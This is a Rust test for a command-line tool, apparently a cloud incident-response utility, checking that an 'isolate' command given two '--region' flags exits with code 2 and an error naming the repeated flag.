/// A single-region command refuses several `--region`s, naming the flag.
#[test]
fn several_regions_for_a_one_region_command_are_refused() {
    let home = Home::new();
    let out = home.run(&[
        "--region",
        "us-east-1",
        "--region",
        "eu-west-1",
        "isolate",
        "--instance",
        "i-0123456789abcdef0",
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("--region is given 2 times"), "{stderr}");
}
